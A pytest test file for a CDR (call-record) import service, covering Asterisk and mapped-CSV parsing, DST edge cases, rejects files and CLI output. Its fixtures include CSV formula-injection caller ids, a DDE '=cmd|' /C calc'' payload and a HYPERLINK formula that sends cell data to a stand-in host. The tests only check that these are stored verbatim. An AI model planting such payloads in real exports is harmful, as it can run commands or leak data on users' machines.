"""The CDR import through the service (SQLite and PostgreSQL) and through the CLI.

Fixture files (``fixtures/cdr/``, described line by line in its README) are real-looking exports;
the large file and the zone cross-check files are generated here.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from report_pipelines.adapters.db.models import CallEvent
from report_pipelines.adapters.db.repositories import CallEventRepository, ClientRepository
from report_pipelines.adapters.sources.cdr import RejectedRow, load_mapping, parse_mapping, read_asterisk_csv
from report_pipelines.adapters.sources.cdr.asterisk_csv import BLOCK_BYTES
from report_pipelines.adapters.sources.cdr.rows import MAX_LINE_BYTES
from report_pipelines.cli import main
from report_pipelines.domain.cdr import CDR_FORMATS, LocalTimes
from report_pipelines.domain.errors import InvalidInput, NotFound
from report_pipelines.services.cdr_import import ImportProgress, import_cdr
from report_pipelines.services.clients import add_client

UTC = dt.UTC
FIXTURES = Path(__file__).parent / "fixtures" / "cdr"
MASTER = FIXTURES / "Master.csv"


def utc(text: str | None) -> dt.datetime | None:
    return None if text is None else dt.datetime.fromisoformat(text).replace(tzinfo=UTC)


def stored(engine: Engine, client_id: int) -> dict[str, tuple]:
    """``{pbx_call_id: (direction, queue, agent, caller, callee, started, answered, ended, disposition)}``."""
    with Session(engine) as session:
        rows = session.scalars(select(CallEvent).where(CallEvent.client_id == client_id)).all()
    return {r.pbx_call_id: (r.direction, r.queue, r.agent, r.caller, r.callee, r.started_at, r.answered_at,
                            r.ended_at, r.disposition) for r in rows}


def call(direction: str, queue: str | None, agent: str | None, caller: str | None, callee: str | None, started: str,
         answered: str | None, ended: str, disposition: str) -> tuple:
    return (direction, queue, agent, caller, callee, utc(started), utc(answered), utc(ended), disposition)


def rejects_of(path: Path) -> dict[int, str]:
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    return {int(r["line"]): r["reason"] for r in rows}


# --- Master.csv -----------------------------------------------------------------------------------
MASTER_CALLS = {
    # A queue call: 201 rang out, 202 answered through a Local channel (3 legs).
    "1709993702.100": call("inbound", "support", "202", "+12125550101", "4000",
                           "2024-03-09 14:15:02", "2024-03-09 14:15:20", "2024-03-09 14:20:02", "ANSWERED"),
    # Caller hung up in the queue; Queue() had answered the channel (ANSWERED leg without dstchannel).
    "1709994600.110": call("inbound", "sales", None, "+13105550102", "4001",
                           "2024-03-09 14:30:00", None, "2024-03-09 14:30:45", "ABANDONED"),
    # Ring group, NO ANSWER + CANCEL, no queue.
    "1709995510.120": call("inbound", None, None, "+16465550103", "2125550100",
                           "2024-03-09 14:45:10", None, "2024-03-09 14:45:25", "NO ANSWER"),
    "1709996400.130": call("inbound", None, "203", "+17185550104", "2125550100",
                           "2024-03-09 15:00:00", "2024-03-09 15:00:12", "2024-03-09 15:03:12", "ANSWERED"),
    "1709997000.140": call("outbound", None, "201", "201", "12125550199",
                           "2024-03-09 15:10:00", "2024-03-09 15:10:08", "2024-03-09 15:12:08", "ANSWERED"),
    "1709997600.150": call("outbound", None, "202", "202", "13125550111",
                           "2024-03-09 15:20:00", None, "2024-03-09 15:20:05", "BUSY"),
    "1709997900.160": call("outbound", None, "203", "203", "+442079460000",
                           "2024-03-09 15:25:00", None, "2024-03-09 15:25:01", "FAILED"),
    "1709998200.170": call("internal", None, "202", "201", "202",
                           "2024-03-09 15:30:00", "2024-03-09 15:30:04", "2024-03-09 15:31:04", "ANSWERED"),
    "1709998800.180": call("internal", "support", "201", "203", "4000",
                           "2024-03-09 15:40:00", "2024-03-09 15:40:09", "2024-03-09 15:42:00", "ANSWERED"),
    "1709999400.190": call("inbound", None, None, "=cmd|' /C calc'!A0", "4000",
                           "2024-03-09 15:50:00", None, "2024-03-09 15:50:20", "NO ANSWER"),
    "1709999700.195": call("inbound", None, "202", "@SUM(1+1)", "4000",
                           "2024-03-09 15:55:00", "2024-03-09 15:55:03", "2024-03-09 15:56:00", "ANSWERED"),
    # Across the spring-forward gap: 01:59:30 EST to 03:00:30 EDT is one minute.
    "1710053970.300": call("internal", None, "202", "201", "202",
                           "2024-03-10 06:59:30", "2024-03-10 06:59:35", "2024-03-10 07:00:30", "ANSWERED"),
    # 02:40 does not exist in New York that night; the uniqueid epoch says 06:40Z.
    "1710052800.302": call("internal", None, None, "202", "203",
                           "2024-03-10 06:40:00", None, "2024-03-10 06:42:00", "NO ANSWER"),
    # 01:30 happened twice on 2024-11-03; the uniqueid epoch says the second (EST).
    "1730615400.400": call("inbound", None, "201", "+12125550135", "2125550100",
                           "2024-11-03 06:30:00", "2024-11-03 06:30:10", "2024-11-03 06:32:00", "ANSWERED"),
    # Line 24: a Latin-1 byte in the caller's name (José) costs nothing: the line is read as cp1252.
    "1710001200.212": call("inbound", None, None, "+351210000001", "4000",
                           "2024-03-09 16:20:00", None, "2024-03-09 16:20:10", "NO ANSWER"),
    # A 16-column row (no uniqueid): id <channel>@<start>; 01:20 read as the first occurrence (EDT).
    "SIP/201-00000142@2024-11-03 01:20:00": call("internal", None, None, "201", "202",
                                                 "2024-11-03 05:20:00", None, "2024-11-03 05:21:00", "NO ANSWER"),
}

LAYOUT_21 = "21 columns (+ uniqueid, userfield, peeraccount, linkedid, sequence)"
MASTER_REJECTS = {
    17: "start: '2024-03-09 25:61:00' is not a date-time like 2024-03-10 09:15:02 (another format? pass --date-format)",
    18: "end: 2024-03-09 11:04:00 is before start 2024-03-09 11:05:00",
    19: "answer: 2024-03-09 11:09:00 is after end 2024-03-09 11:08:00",
    20: "call '1710000600.206': not imported because line(s) 21 of the same call were rejected",
    21: "disposition: unknown disposition 'TRANSFERRED' (expected one of ANSWERED, NO ANSWER, BUSY, FAILED, "
        "CONGESTION, CANCEL, UNKNOWN)",
    22: f"wrong column count: 14 columns (Master.csv rows have 16 to 21; this file's: {LAYOUT_21})",
    23: f"wrong column count: 22 columns (Master.csv rows have 16 to 21; this file's: {LAYOUT_21})",
    25: "uniqueid: empty (the call id is linkedid, else uniqueid)",
    26: "contains a NUL byte at character 128 (not text)",
    27: "src: longer than 128 characters",
    # Backslash-escaped quotes and a line cut short: not one broken field between good ones.
    28: "malformed CSV: the quoting cannot be repaired (more than one broken field)",
    29: "start: 1970-01-01 00:00:00 is before 2000 (is the PBX clock set?)",
    30: "call '1710001800.224' (lines 30, 31): queue: longer than 128 characters",
    31: "call '1710001800.224' (lines 30, 31): queue: longer than 128 characters",
    33: "start: 2024-03-10 02:30:00 does not exist in America/New_York (the clocks went forward from UTC-05:00 to "
        "UTC-04:00; no uniqueid to tell which instant was meant)",
}


def test_master_csv_is_collapsed_checked_and_idempotent(engine: Engine, tmp_path: Path) -> None:
    client = add_client(engine, "ny-support", "NY Support", "America/New_York")
    before = dt.datetime.now(UTC)
    summary = import_cdr(engine, "ny-support", "asterisk-csv", MASTER, rejects_path=tmp_path / "out" / "rejects.csv")
    # 37 rows: 16 calls stored, call 1709998200.170 a second time at line 37 (repeated in the file), 15 rows rejected.
    assert (summary.rows_read, summary.calls, summary.imported, summary.duplicates, summary.rejected) == (37, 17, 16, 0, 15)
    assert (summary.repeated_in_file, summary.repeated_examples) == (1, (("1709998200.170", 13, 37, 2),))
    assert summary.decoded == "36 lines UTF-8, 1 lines cp1252 (detected)"
    assert summary.rejects_path == tmp_path / "out" / "rejects.csv"
    assert summary.warnings == (
        "1 time(s) fell in a DST fall-back hour of America/New_York and were read as the first occurrence "
        "(nothing in the row told which one)",)
    assert rejects_of(summary.rejects_path) == MASTER_REJECTS
    assert stored(engine, client.id) == MASTER_CALLS

    # The raw column holds the line as read: verbatim, undecodable bytes as \xNN.
    with summary.rejects_path.open(newline="", encoding="utf-8") as fh:
        raw = {int(r["line"]): r["raw"] for r in csv.DictReader(fh)}
    lines = MASTER.read_bytes().split(b"\n")
    assert raw[17] == lines[16].decode()
    assert raw[26] == lines[25].decode().replace("\x00", "\\x00")

    # The formula-like caller ids are stored byte for byte, and every call has the import's instant.
    with Session(engine) as session:
        events = session.scalars(select(CallEvent).where(CallEvent.client_id == client.id)).all()
    assert {e.caller.encode() for e in events if e.caller and e.caller[0] in "=@"} == {b"=cmd|' /C calc'!A0", b"@SUM(1+1)"}
    [ingested] = {e.ingested_at for e in events}
    assert before <= ingested <= dt.datetime.now(UTC)

    # Again: nothing new, every call a duplicate, a new rejects file next to the default place.
    again = import_cdr(engine, "ny-support", "asterisk-csv", MASTER, data_dir=tmp_path / "data")
    assert (again.rows_read, again.calls, again.imported, again.duplicates, again.rejected) == (37, 17, 0, 16, 15)
    assert again.rejects_path is not None and again.rejects_path.parent == tmp_path / "data" / "rejects"
    assert again.rejects_path.name.startswith("Master.csv.") and again.rejects_path.name.endswith(".rejects.csv")
    assert rejects_of(again.rejects_path) == MASTER_REJECTS
    assert CallEventRepository(engine).count(client.id) == 16

    # Imported history: the client's reports now start at its first imported call's local date.
    first_call = min(e.started_at for e in events).astimezone(ZoneInfo("America/New_York")).date()
    assert first_call < client.active_from
    assert ClientRepository(engine).get(client.id).active_from == first_call


def test_the_careful_reader_gives_what_the_fast_path_gives(sqlite_engine: Engine, tmp_path: Path) -> None:
    """The Arrow block path and the line-by-line reader (``fast=False``) store the same calls."""
    fast = add_client(sqlite_engine, "fast", "Fast", "America/New_York")
    careful = add_client(sqlite_engine, "careful", "Careful", "America/New_York")
    one = import_cdr(sqlite_engine, "fast", "asterisk-csv", MASTER, data_dir=tmp_path / "a")
    two = import_cdr(sqlite_engine, "careful", "asterisk-csv", MASTER, data_dir=tmp_path / "b", fast=False)
    assert (one.calls, one.imported, one.rejected) == (two.calls, two.imported, two.rejected) == (17, 16, 15)
    assert stored(sqlite_engine, fast.id) == stored(sqlite_engine, careful.id) == MASTER_CALLS
    assert rejects_of(one.rejects_path) == rejects_of(two.rejects_path) == MASTER_REJECTS


# --- the reader, byte by byte ---------------------------------------------------------------------
def legs_of(batches) -> tuple[list[dict], list[RejectedRow]]:
    legs, rejects = [], []
    for batch in batches:
        legs.extend(batch.legs.to_pylist())
        rejects.extend(batch.rejects)
    return sorted(legs, key=lambda leg: leg["line"]), rejects


@pytest.mark.parametrize("fast", [True, False])
def test_the_reader_handles_bom_crlf_overlong_lines_and_stray_answer_times(fast: bool) -> None:
    def row(disposition: str, answer: str) -> bytes:
        return (f'"","201","202","from-internal","","SIP/201-1","SIP/202-1","Dial","SIP/202","2024-03-09 10:00:00",'
                f'"{answer}","2024-03-09 10:00:30",30,25,"{disposition}","DOCUMENTATION","1709978400.1","","",'
                f'"1709978400.1",1').encode()
    data = (codecs.BOM_UTF8 + row("NO ANSWER", "2024-03-09 10:00:05") + b"\r\n"
            + b"x" * (MAX_LINE_BYTES + 10) + b"\n"
            + row("ANSWERED", "2024-03-09 10:00:05") + b"\r\n")
    [first, third], [overlong] = legs_of(read_asterisk_csv(io.BytesIO(data), LocalTimes(UTC), fast=fast))
    # Some Asterisk versions fill answer on unanswered legs: it means nothing and is dropped.
    assert (first["line"], first["answered_at"], first["disposition"]) == (1, None, "NO ANSWER")
    assert first["raw"].startswith('"","201"')
    assert (overlong.line, overlong.reason) == (2, f"line longer than {MAX_LINE_BYTES} bytes")
    assert third["line"] == 3 and third["answered_at"] == utc("2024-03-09 10:00:05")


# --- the asteriskcdrdb export ---------------------------------------------------------------------
def test_asterisk_db_export(engine: Engine, tmp_path: Path) -> None:
    client = add_client(engine, "lisboa", "Lisboa", "Europe/Lisbon")
    summary = import_cdr(engine, "lisboa", "asterisk-db", FIXTURES / "asteriskcdrdb_cdr.csv", data_dir=tmp_path)
    assert (summary.rows_read, summary.calls, summary.imported, summary.duplicates, summary.rejected) == (11, 7, 7, 0, 3)
    assert rejects_of(summary.rejects_path) == {
        6: "calldate: '26/10/2024 11:00' is not a date-time like 2024-03-10 09:15:02 (another format? pass --date-format)",
        7: "billsec: 400 is more than duration 300",
        11: "wrong column count: 23 columns, the header has 26",
    }
    assert stored(engine, client.id) == {
        # end = calldate + duration; answered = end - billsec (200 s, 170 billed).
        "1729933200.1": call("inbound", "suporte", "202", "+351912000001", "210000000",
                             "2024-10-26 09:00:00", "2024-10-26 09:00:30", "2024-10-26 09:03:20", "ANSWERED"),
        "1729933800.4": call("inbound", "suporte", None, "+351912000002", "210000000",
                             "2024-10-26 09:10:00", None, "2024-10-26 09:11:00", "ABANDONED"),
        # NO ANSWER with billsec 12: a member's phone rang while the caller's side was answered; kept.
        "1729937400.11": call("inbound", None, None, "+351912000003", "210000000",
                              "2024-10-26 10:10:00", None, "2024-10-26 10:10:30", "NO ANSWER"),
        "1729934400.5": call("outbound", None, "210", "210", "00351912345678",
                             "2024-10-26 09:20:00", "2024-10-26 09:20:10", "2024-10-26 09:21:30", "ANSWERED"),
        # 01:30 on 2024-10-27 happened twice in Lisbon: the uniqueid epoch picks the second (WET).
        "1729992600.13": call("inbound", None, "211", "+351912000004", "210000000",
                              "2024-10-27 01:30:00", "2024-10-27 01:30:15", "2024-10-27 01:30:45", "ANSWERED"),
        # No epoch in this uniqueid: the first 01:45 (WEST), and a warning.
        "legacy-0042": call("internal", None, None, "210", "211",
                            "2024-10-27 00:45:00", None, "2024-10-27 00:45:10", "NO ANSWER"),
        # ANSWERED with billsec 0: answered as it ended.
        "1730021400.19": call("internal", None, "210", "211", "210",
                              "2024-10-27 09:30:00", "2024-10-27 09:30:04", "2024-10-27 09:30:04", "ANSWERED"),
    }
    assert len(summary.warnings) == 1 and "fall-back hour of Europe/Lisbon" in summary.warnings[0]


def test_master_csv_given_as_asterisk_db_is_refused_before_anything_is_written(sqlite_engine: Engine, tmp_path: Path) -> None:
    add_client(sqlite_engine, "ny", "NY", "America/New_York")
    with pytest.raises(InvalidInput) as err:
        import_cdr(sqlite_engine, "ny", "asterisk-db", MASTER, data_dir=tmp_path)
    assert err.value.field == "FILE"
    assert "lacks the column(s) calldate" in err.value.message and "--format asterisk-csv" in err.value.message
    assert not (tmp_path / "rejects").exists()


# --- mapped CSV -----------------------------------------------------------------------------------
def test_mapped_csv_with_a_yaml_mapping(engine: Engine, tmp_path: Path) -> None:
    client = add_client(engine, "callcentre", "Call centre", "Europe/Lisbon")
    summary = import_cdr(engine, "callcentre", "mapped-csv", FIXTURES / "callcentre_export.csv",
                         mapping_path=FIXTURES / "callcentre_export.yaml", data_dir=tmp_path)
    assert (summary.rows_read, summary.calls, summary.imported, summary.duplicates, summary.rejected) == (10, 4, 4, 0, 5)
    assert rejects_of(summary.rejects_path) == {
        5: "Resultado: outcome 'Transferida' is not in the mapping's outcome.values ('Atendida', 'Abandonada', "
           "'Não atendida', 'Ocupado')",
        6: "Call ID: empty call id",
        8: "Início: '31/02/2024 10:00:00' is not the date format '%d/%m/%Y %H:%M:%S'",
        9: "wrong column count: 9 columns, the header has 10",
        11: "Sentido: direction 'X' is not in the mapping's direction.values ('ENT', 'SAI', 'INT')",
    }
    # The mapping's zone (America/Sao_Paulo, UTC-3) wins over the client's (Lisbon, UTC+0 in March).
    assert stored(engine, client.id) == {
        # Two rows of C-1001 (a transfer from Ana to Bruno) are one call, Ana's answer first.
        "C-1001": call("inbound", "Suporte", "Ana", "+5511987654321", "4000",
                       "2024-03-09 12:00:00", "2024-03-09 12:00:20", "2024-03-09 12:08:00", "ANSWERED"),
        "C-1002": call("inbound", "Suporte", None, "+5511987654322", "4000",
                       "2024-03-09 12:10:00", None, "2024-03-09 12:11:30", "ABANDONED"),
        "C-1003": call("outbound", None, "Bruno", "4101", "+551130000000",
                       "2024-03-09 12:20:00", "2024-03-09 12:20:15", "2024-03-09 12:22:00", "ANSWERED"),
        "C-1006": call("inbound", "Vendas", None, '=HYPERLINK("http://x.example/?"&A1,"click")', "4001",
                       "2024-03-09 12:50:00", None, "2024-03-09 12:50:40", "NO ANSWER"),
    }


def test_mapped_csv_with_a_json_mapping_epochs_and_durations(engine: Engine, tmp_path: Path) -> None:
    client = add_client(engine, "dialer", "Dialer", "Asia/Tokyo")
    summary = import_cdr(engine, "dialer", "mapped-csv", FIXTURES / "dialer_export.csv",
                         mapping_path=FIXTURES / "dialer_export.json", data_dir=tmp_path)
    assert (summary.rows_read, summary.calls, summary.imported, summary.rejected) == (6, 4, 4, 2)
    assert rejects_of(summary.rejects_path) == {
        5: "start_epoch: '17100623xx' is not epoch seconds",
        6: "wait_s: '-5' is not a duration (seconds, or [H:]MM:SS)",
    }
    # Epochs are UTC whatever the zone; answer = start + wait, end = answer + talk; no direction column: inbound.
    assert stored(engine, client.id) == {
        "9001": call("inbound", "sales", "201", "5551234567", "800",
                     "2024-03-10 09:15:02", "2024-03-10 09:15:27", "2024-03-10 09:20:27", "ANSWERED"),
        "9002": call("inbound", "sales", None, "5551234568", "800",
                     "2024-03-10 09:16:42", None, "2024-03-10 09:17:22", "ABANDONED"),
        "9003": call("inbound", "support", "202", "5551234569", "800",
                     "2024-03-10 09:18:22.500000", "2024-03-10 09:18:37.500000", "2024-03-10 10:20:40.500000", "ANSWERED"),
        "9006": call("inbound", "support", None, "5551234572", "800",
                     "2024-03-10 09:23:22", None, "2024-03-10 09:23:52", "NO ANSWER"),
    }


VALID = {"call_id": "id", "start": "s", "end": "e", "outcome": {"column": "o", "values": {"ok": "ANSWERED"}}}


@pytest.mark.parametrize(
    ("change", "field", "message"),
    [
        ({"strat": "s"}, "--mapping strat", "unknown key (known keys: call_id, start, answer, end, queued, wait_seconds, "
                                            "talk_seconds, queue, agent, caller, callee, direction, outcome, date_format, "
                                            "timezone, delimiter, sheet); did you mean 'start'?"),
        ({"call_id": None}, "--mapping call_id", "required: the column that holds the call's id"),
        ({"start": None}, "--mapping start", "required: the column that holds the call's start time"),
        ({"start": ""}, "--mapping start", "must be a column name (a non-empty string), got ''"),
        ({"end": None}, "--mapping end", "give the end column, or the durations wait_seconds and/or talk_seconds"),
        ({"outcome": None}, "--mapping outcome", "required: {column: <the outcome column>, values: {<its values>: <our disposition>}}"),
        ({"outcome": {"column": "o", "values": {"ok": "ANSWERED", "xfer": "TRANSFER"}}}, "--mapping outcome.values.xfer",
         "'TRANSFER' is not one of our dispositions (ANSWERED, NO ANSWER, BUSY, FAILED, ABANDONED)"),
        ({"outcome": {"column": "o", "values": {}}}, "--mapping outcome.values",
         "must map the file's values to dispositions (ANSWERED, NO ANSWER, BUSY, FAILED, ABANDONED)"),
        ({"outcome": {"column": "o", "values": {True: "ANSWERED"}}}, "--mapping outcome.values.True",
         "quote this value in the mapping file (YAML reads yes/no/null as booleans)"),
        ({"outcome": {"colum": "o"}}, "--mapping outcome.colum", "unknown key (known keys: column, values); did you mean 'column'?"),
        ({"direction": {"column": "d", "values": {"in": "incoming"}}}, "--mapping direction.values.in",
         "'incoming' is not one of our directions (inbound, outbound, internal, unknown)"),
        ({"direction": {"default": "sideways"}}, "--mapping direction.default", "'sideways' is not one of inbound, outbound, internal, unknown"),
        ({"date_format": "dd/mm/yyyy"}, "--mapping date_format",
         "'dd/mm/yyyy' is neither 'iso', 'epoch' nor a strptime format such as '%d/%m/%Y %H:%M'"),
        ({"delimiter": ";;"}, "--mapping delimiter", "must be one character other than a quote or a newline, got ';;'"),
        ({"timezone": "Europe/Lisboa"}, "--mapping timezone", "unknown time zone 'Europe/Lisboa'"),
    ],
)
def test_a_bad_mapping_is_refused_naming_the_key(change: dict, field: str, message: str) -> None:
    raw = {k: v for k, v in {**VALID, **change}.items() if v is not None}
    with pytest.raises(InvalidInput) as err:
        parse_mapping(raw)
    assert err.value.field == field
    assert err.value.message.startswith(message)


def test_mapping_values_are_read_leniently_where_it_is_safe() -> None:
    mapping = parse_mapping({**VALID, "end": None, "talk_seconds": "t",
                             "outcome": {"column": "o", "values": {"done": "answered", "gone": "no_answer", 3: "BUSY"}}})
    assert {k: v.value for k, v in mapping.outcome_values.items()} == {"done": "ANSWERED", "gone": "NO ANSWER", "3": "BUSY"}


def test_mapping_files_that_cannot_be_read(tmp_path: Path) -> None:
    cases = {
        "missing.yaml": None,
        "broken.yaml": "call_id: [unclosed\n",
        "broken.json": '{"call_id": "id",}',
        "list.yaml": "- call_id\n- start\n",
    }
    errors = {}
    for name, text in cases.items():
        if text is not None:
            (tmp_path / name).write_text(text)
        with pytest.raises(InvalidInput) as err:
            load_mapping(tmp_path / name)
        errors[name] = (err.value.field, err.value.message)
    assert errors["missing.yaml"] == ("--mapping", f"no such file: {tmp_path / 'missing.yaml'}")
    assert errors["broken.yaml"][0] == "--mapping" and errors["broken.yaml"][1].startswith("broken.yaml is not valid YAML at line 2")
    assert errors["broken.json"] == ("--mapping", "broken.json is not valid JSON: line 1 column 18: Expecting property name enclosed in double quotes")
    assert errors["list.yaml"][0] == "--mapping" and "got list" in errors["list.yaml"][1]


def test_a_mapping_that_names_a_column_the_file_lacks(sqlite_engine: Engine, tmp_path: Path) -> None:
    add_client(sqlite_engine, "cc", "CC", "Europe/Lisbon")
    mapping = tmp_path / "m.yaml"
    mapping.write_text((FIXTURES / "callcentre_export.yaml").read_text(encoding="utf-8").replace("agent: Agente", "agent: Operador"),
                       encoding="utf-8")
    with pytest.raises(InvalidInput) as err:
        import_cdr(sqlite_engine, "cc", "mapped-csv", FIXTURES / "callcentre_export.csv", mapping_path=mapping, data_dir=tmp_path)
    assert err.value.field == "--mapping agent"
    assert err.value.message.startswith("column 'Operador' is not in the file's header (line 1: 'Call ID', 'Início',")


# --- arguments ------------------------------------------------------------------------------------
def test_bad_arguments_are_refused_naming_the_option_and_nothing_is_written(sqlite_engine: Engine, tmp_path: Path) -> None:
    client = add_client(sqlite_engine, "ny", "NY", "America/New_York")
    existing = tmp_path / "rejects.csv"
    existing.write_text("keep me\n")

    def refused(**kwargs) -> tuple[str, str]:
        args = {"client_slug": "ny", "fmt": "asterisk-csv", "path": MASTER, "data_dir": tmp_path / "data", **kwargs}
        with pytest.raises((InvalidInput, NotFound)) as err:
            import_cdr(sqlite_engine, **args)
        return err.value.field, err.value.message

    assert refused(client_slug="nope") == ("--client", "no client with slug 'nope' (see: report-pipelines clients list)")
    assert refused(path=tmp_path / "nope.csv") == ("FILE", f"no such file: {tmp_path / 'nope.csv'}")
    assert refused(fmt="freeswitch") == ("--format", "'freeswitch' is not one of asterisk-csv, asterisk-db, mapped-csv")
    assert refused(fmt="mapped-csv")[0] == "--mapping"
    assert refused(mapping_path=FIXTURES / "dialer_export.json") == ("--mapping", "only used with --format mapped-csv, not asterisk-csv")
    assert refused(mapping_path=tmp_path / "nope.yaml", fmt="mapped-csv") == ("--mapping", f"no such file: {tmp_path / 'nope.yaml'}")
    assert refused(timezone="America/New_Yrok")[0] == "--timezone"
    assert refused(timezone="UTC", gmt=True) == ("--gmt", "give --gmt or --timezone, not both")
    assert refused(rejects_path=existing) == ("--rejects", f"{existing} already exists (a rejects file is never overwritten)")
    assert existing.read_text() == "keep me\n"
    assert CallEventRepository(sqlite_engine).count(client.id) == 0
    assert not (tmp_path / "data").exists()


def test_a_clean_file_leaves_no_rejects_file(sqlite_engine: Engine, tmp_path: Path) -> None:
    add_client(sqlite_engine, "ny", "NY", "America/New_York")
    clean = tmp_path / "Master.csv"
    clean.write_bytes(b"\n".join(MASTER.read_bytes().split(b"\n")[:16]) + b"\n\n")  # the 11 good calls, and a blank line
    summary = import_cdr(sqlite_engine, "ny", "asterisk-csv", clean, data_dir=tmp_path / "data")
    assert (summary.rows_read, summary.imported, summary.rejected, summary.rejects_path) == (16, 11, 0, None)
    assert not (tmp_path / "data").exists()


# --- the zone cross-check -------------------------------------------------------------------------
def write_master(path: Path, start: dt.datetime, wall_offset: dt.timedelta, calls: int = 30) -> None:
    """Internal calls every 10 minutes from ``start`` (UTC), logged at wall time = UTC + ``wall_offset``."""
    lines = []
    for i in range(calls):
        begin = start + dt.timedelta(minutes=10 * i)
        end = begin + dt.timedelta(seconds=40)
        uniqueid = f"{int(begin.timestamp())}.{i}"
        wall = [(t + wall_offset).strftime("%Y-%m-%d %H:%M:%S") for t in (begin, end)]
        lines.append(f'"","201","202","from-internal","""Alice"" <201>","SIP/201-{i:08x}","SIP/202-{i:08x}","Dial",'
                     f'"SIP/202","{wall[0]}","","{wall[1]}",40,0,"NO ANSWER","DOCUMENTATION","{uniqueid}","","","{uniqueid}",{i}')
    path.write_text("\n".join(lines) + "\n")


def test_times_that_disagree_with_uniqueid_warn_but_import(sqlite_engine: Engine, tmp_path: Path) -> None:
    lisbon = add_client(sqlite_engine, "lisbon", "Lisbon", "Europe/Lisbon")
    saopaulo = add_client(sqlite_engine, "saopaulo", "Sao Paulo", "Europe/Lisbon")
    file = tmp_path / "Master.csv"
    write_master(file, dt.datetime(2024, 1, 15, 12, 0, tzinfo=UTC), -dt.timedelta(hours=3))  # a PBX in Sao Paulo

    wrong = import_cdr(sqlite_engine, "lisbon", "asterisk-csv", file, data_dir=tmp_path)
    assert (wrong.imported, wrong.rejected) == (30, 0)
    assert wrong.warnings[:1] == (
        "times look like UTC-03:00 but the zone Europe/Lisbon (the client's zone) was used (UTC+00:00 at those "
        "times): the epoch in uniqueid disagrees with the start by a median of -180 minutes over 30 rows; "
        "check --timezone/--gmt",)
    assert min(c[5] for c in stored(sqlite_engine, lisbon.id).values()) == utc("2024-01-15 09:00:00")

    right = import_cdr(sqlite_engine, "saopaulo", "asterisk-csv", file, timezone="America/Sao_Paulo", data_dir=tmp_path)
    assert (right.imported, [w for w in right.warnings if "inbound" not in w]) == (30, [])
    assert min(c[5] for c in stored(sqlite_engine, saopaulo.id).values()) == utc("2024-01-15 12:00:00")


def test_gmt_means_the_pbx_logs_utc(sqlite_engine: Engine, tmp_path: Path) -> None:
    gmt = add_client(sqlite_engine, "gmt", "GMT", "America/New_York")
    add_client(sqlite_engine, "local", "Local", "America/New_York")
    file = tmp_path / "Master.csv"
    write_master(file, dt.datetime(2024, 7, 1, 12, 0, tzinfo=UTC), dt.timedelta(0))
    summary = import_cdr(sqlite_engine, "gmt", "asterisk-csv", file, gmt=True, data_dir=tmp_path)
    assert (summary.imported, [w for w in summary.warnings if "inbound" not in w]) == (30, [])
    assert min(c[5] for c in stored(sqlite_engine, gmt.id).values()) == utc("2024-07-01 12:00:00")
    forgot = import_cdr(sqlite_engine, "local", "asterisk-csv", file, data_dir=tmp_path)
    assert forgot.warnings[0].startswith("times look like UTC+00:00 but the zone America/New_York (the client's zone) "
                                         "was used (UTC-04:00 at those times)")


# --- a large file ---------------------------------------------------------------------------------
def test_a_large_file_streams_with_bounded_open_calls(sqlite_engine: Engine, tmp_path: Path) -> None:
    """200,000 rows (100,000 two-leg calls, one every 2 s over 55 hours) hold at most the calls of the
    last ~2 hours open plus those of one block of the file (4 MB)."""
    client = add_client(sqlite_engine, "big", "Big", "UTC")
    file = tmp_path / "Master.csv"
    base = dt.datetime(2024, 5, 1, tzinfo=UTC)
    calls = 100_000
    with file.open("w") as fh:
        for i in range(calls):
            begin = base + dt.timedelta(seconds=2 * i)
            uid = f"{int(begin.timestamp())}.{i}"
            s, a, e1, e2 = (f"{(begin + dt.timedelta(seconds=k)):%Y-%m-%d %H:%M:%S}" for k in (0, 10, 10, 70))
            fh.write(f'"","+1555{i:07d}","4000","from-trunk","","SIP/trunk-{i:08x}","SIP/201-{i:08x}","Dial","SIP/201&SIP/202",'
                     f'"{s}","","{e1}",10,0,"NO ANSWER","DOCUMENTATION","{uid}","","","{uid}",1\n'
                     f'"","+1555{i:07d}","4000","from-trunk","","SIP/trunk-{i:08x}","SIP/202-{i:08x}","Dial","SIP/201&SIP/202",'
                     f'"{s}","{a}","{e2}",70,60,"ANSWERED","DOCUMENTATION","{uid}","","","{uid}",2\n')
    seen: list[ImportProgress] = []
    summary = import_cdr(sqlite_engine, "big", "asterisk-csv", file, data_dir=tmp_path, progress=seen.append,
                         progress_interval=0.0)
    assert (summary.rows_read, summary.calls, summary.imported, summary.rejected, summary.warnings) == (
        2 * calls, calls, calls, 0, ())
    rows_per_block = BLOCK_BYTES / (file.stat().st_size / (2 * calls))
    window = int(2 * 3600 / 2) + int(rows_per_block / 2) + 60
    assert 3600 < summary.peak_open_calls <= window  # ~12,000 of 100,000 calls
    assert CallEventRepository(sqlite_engine).count(client.id) == calls
    # Progress: one report per block, rows and bytes only grow, the last one is the whole file.
    assert 5 <= len(seen) <= 2 * calls // 1000 + 1
    assert [p.rows_read for p in seen] == sorted(p.rows_read for p in seen)
    assert (seen[-1].rows_read, seen[-1].bytes_read, seen[-1].total_bytes, seen[-1].calls) == (
        2 * calls, file.stat().st_size, file.stat().st_size, calls)


# --- the command line -----------------------------------------------------------------------------
def test_the_cli_imports_and_explains_errors(sqlite_engine: Engine, tmp_path: Path) -> None:
    add_client(sqlite_engine, "ny-support", "NY Support", "America/New_York")
    env = {"REPORT_PIPELINES_DATABASE_URL": sqlite_engine.url.render_as_string(hide_password=False),
           "REPORT_PIPELINES_DATA_DIR": str(tmp_path / "data")}
    runner = CliRunner()
    [choice] = [p for p in main.commands["import-cdr"].params if p.name == "fmt"]
    assert tuple(choice.type.choices) == CDR_FORMATS

    done = runner.invoke(main, ["import-cdr", "--client", "ny-support", "--format", "asterisk-csv", str(MASTER)], env=env)
    assert done.exit_code == 0, done.output
    [rejects] = (tmp_path / "data" / "rejects").iterdir()
    assert done.stdout.splitlines()[0] == (f"imported 16 calls (0 already imported, 1 repeated in the file, "
                                           f"15 rejected rows -> {rejects}) from 37 rows")
    assert "  by direction: inbound 8, internal 6, outbound 3" in done.stdout.splitlines()  # the copy of line 13 too
    assert "read 37 rows" in done.stderr and "(100%), 17 calls" in done.stderr
    assert "warning: 1 time(s) fell in a DST fall-back hour of America/New_York" in done.stderr

    again = runner.invoke(main, ["import-cdr", "--client", "ny-support", "--format", "asterisk-csv", "--no-progress",
